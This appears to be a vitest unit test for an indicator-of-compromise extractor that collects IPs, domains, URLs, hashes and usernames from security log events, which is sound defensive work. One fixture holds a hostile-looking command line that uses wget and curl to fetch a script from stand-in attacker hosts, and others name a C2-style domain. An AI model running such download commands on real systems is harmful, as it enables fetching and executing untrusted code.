import { describe, expect, it } from 'vitest';
import { extractIocs, type IocSource } from './iocs.ts';

const event = (overrides: Partial<IocSource>): IocSource => ({
  src_ip: null,
  dst_ip: null,
  user_name: null,
  url: null,
  process_command_line: null,
  file_sha256: null,
  file_md5: null,
  message: null,
  attributes: {},
  ...overrides,
});

describe('extractIocs', () => {
  it('takes columns and patterns in command lines, most frequent first, without duplicates', () => {
    const sha = 'a'.repeat(64);
    const iocs = extractIocs([
      event({ src_ip: '203.0.113.10', dst_ip: '10.0.0.2', user_name: 'root' }),
      event({ src_ip: '203.0.113.10', user_name: 'admin' }),
      event({ src_ip: '203.0.113.10', user_name: 'root', process_command_line: `wget http://evil.example.test/x.sh; curl 198.51.100.9/y; echo ${sha}` }),
      event({ url: 'https://Shop.Example.org/login?id=1', attributes: { dnsQuery: 'c2.example.net.', httpHost: '10.0.0.9' } }),
      event({ file_sha256: sha.toUpperCase(), message: 'download from ftp://files.example.test/a.bin' }),
    ]);
    expect(iocs.ips).toEqual(['203.0.113.10', '10.0.0.2', '198.51.100.9']);
    expect(iocs.usernames).toEqual(['root', 'admin']);
    expect(iocs.urls).toEqual(['ftp://files.example.test/a.bin', 'http://evil.example.test/x.sh', 'https://Shop.Example.org/login?id=1']);
    expect(iocs.domains.sort()).toEqual(['c2.example.net', 'evil.example.test', 'files.example.test', 'shop.example.org']);
    expect(iocs.hashes).toEqual([sha]);
    expect(iocs.commands).toHaveLength(1);
  });

  it('bounds each list', () => {
    const many = Array.from({ length: 50 }, (_, index) => event({ user_name: `user${index}` }));
    expect(extractIocs(many, 10).usernames).toHaveLength(10);
    expect(extractIocs([])).toEqual({ ips: [], domains: [], urls: [], hashes: [], usernames: [], commands: [] });
  });
});
